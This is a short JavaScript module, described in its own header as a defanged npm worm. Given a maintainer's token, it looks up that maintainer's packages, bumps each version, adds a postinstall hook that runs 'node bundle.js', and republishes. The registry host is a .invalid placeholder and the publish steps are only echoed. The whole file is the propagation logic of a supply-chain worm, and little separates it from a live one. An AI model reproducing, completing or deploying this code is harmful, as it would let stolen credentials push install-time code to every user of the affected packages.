// defanged worm shape: registry under .invalid, commands echoed, nothing published
const { execSync } = require('child_process');
const fs = require('fs');
const path = require('path');
const os = require('os');

async function spread(token) {
  const who = execSync('npm whoami', { encoding: 'utf8', env: { ...process.env, NPM_TOKEN: token } }).trim();
  const res = await fetch('https://registry.example.invalid/-/v1/search?text=maintainer:' + who + '&size=20');
  const { objects } = await res.json();
  for (const o of objects) {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'p-'));
    execSync('echo npm pack ' + o.package.name, { cwd: dir });
    execSync('echo tar -xzf package.tgz', { cwd: dir });
    const pj = path.join(dir, 'package', 'package.json');
    const m = JSON.parse(fs.readFileSync(pj, 'utf8'));
    const v = m.version.split('.');
    m.version = [v[0], v[1], Number(v[2]) + 1].join('.');
    m.scripts = m.scripts || {};
    m.scripts.postinstall = 'node bundle.js';
    fs.writeFileSync(pj, JSON.stringify(m, null, 2));
    execSync('echo npm publish', { cwd: path.join(dir, 'package') });
  }
}
module.exports = spread;
